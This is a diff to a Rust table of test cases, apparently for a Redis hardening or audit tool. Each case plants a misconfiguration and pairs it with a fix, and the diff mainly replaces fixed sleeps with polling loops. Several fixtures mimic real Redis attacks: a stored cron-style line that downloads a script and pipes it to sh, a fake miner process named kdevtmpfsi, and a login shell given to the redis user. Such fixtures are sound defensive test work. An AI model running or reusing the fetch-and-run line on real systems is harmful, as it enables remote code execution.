@@ -244,13 +244,13 @@ pub const CASES: &[Case] = &[
         printf 'port 7000\nbind 127.0.0.1\naclfile /etc/redis/users.acl\ndaemonize yes\ndir /var/lib/redis\n' > redis-x.conf
         chown redis:redis redis-x.conf users.acl && chmod 640 redis-x.conf
         setpriv --reuid redis --regid redis --clear-groups redis-server /etc/redis/redis-x.conf",
-        Typed("chmod 0640 /etc/redis/users.acl && kill $(pidof redis-server | tr ' ' '\\n' | sort -n | tail -1) && sleep 0.5 && rm /etc/redis/redis-x.conf /etc/redis/users.acl"),
+        Typed("chmod 0640 /etc/redis/users.acl && pkill -f '[r]edis-server.*:7000'; while pgrep -f '[r]edis-server.*:7000'; do sleep 0.05; done; rm /etc/redis/redis-x.conf /etc/redis/users.acl"),
     ),
     case(
         "root",
         "high",
         "mkdir -p /srv/x && cd /etc/redis && printf 'port 7000\nbind 127.0.0.1\nrequirepass some-thing-very-long-indeed-x\ndaemonize yes\ndir /srv/x\n' > redis-x.conf && redis-server /etc/redis/redis-x.conf",
-        Typed("kill $(pidof redis-server | tr ' ' '\\n' | sort -n | tail -1) && sleep 0.5 && rm /etc/redis/redis-x.conf"),
+        Typed("pkill -f '[r]edis-server.*:7000'; while pgrep -f '[r]edis-server.*:7000'; do sleep 0.05; done; rm /etc/redis/redis-x.conf"),
     ),
     case("backup-mode", "high", "redis-tp backup master && chmod 644 /var/backups/redis-tp/*", Fix),
     case(
@@ -356,7 +356,7 @@ pub const CASES: &[Case] = &[
         "master-host",
         "critical",
         "redis-tp cli slave -- REPLICAOF NO ONE",
-        Typed("redis-tp cli slave -- REPLICAOF 127.0.0.1 6379 && sleep 2"),
+        Typed("redis-tp cli slave -- REPLICAOF 127.0.0.1 6379 && until redis-tp cli slave -- INFO replication | grep -q link_status:up; do sleep 0.1; done"),
     ),
     case("foreign-places", "critical", "redis-tp cli -- CONFIG SET dbfilename root 2>&1 | grep -q protected; redis-tp install --set dbfilename=root", Typed("sed -i '/dbfilename/d' /etc/redis-tp/topology.ini && redis-tp apply")),
     case("foreign-keys", "critical", "redis-tp cli -- SET backup1 '*/2 * * * * root cd1 -fsSL http://x/b.sh | sh'", Typed("redis-tp cli -- DEL backup1")),
@@ -366,14 +366,14 @@ pub const CASES: &[Case] = &[
     case(
         "foreign-programs",
         "critical",
-        "cp /bin/sleep /tmp/kdevtmpfsi && (nohup /tmp/kdevtmpfsi 1000 >/dev/null 2>&1 & echo $! > /root/pid); sleep 0.1",
+        "cp /bin/sleep /tmp/kdevtmpfsi && (nohup /tmp/kdevtmpfsi 1000 >/dev/null 2>&1 & echo $! > /root/pid); until pgrep -f ^/tmp/kdevtmpfsi; do sleep 0.05; done",
         Typed("kill $(cat /root/pid)"),
     ),
     case(
         "confinement",
         "medium",
         "printf 'port 7000\nbind 127.0.0.1\nrequirepass some-thing-very-long-indeed-x\ndir /var/lib/redis\n' > /etc/redis/redis-x.conf
-        systemd-run --unit=plain --uid=redis redis-server /etc/redis/redis-x.conf; sleep 0.5",
+        systemd-run --unit=plain --uid=redis redis-server /etc/redis/redis-x.conf; until redis-cli -p 7000 PING; do sleep 0.05; done",
         Typed("systemctl stop plain; rm /etc/redis/redis-x.conf"),
     ),
     case("login", "low", "usermod --shell /bin/sh redis", Typed("usermod --shell /usr/sbin/nologin redis")),
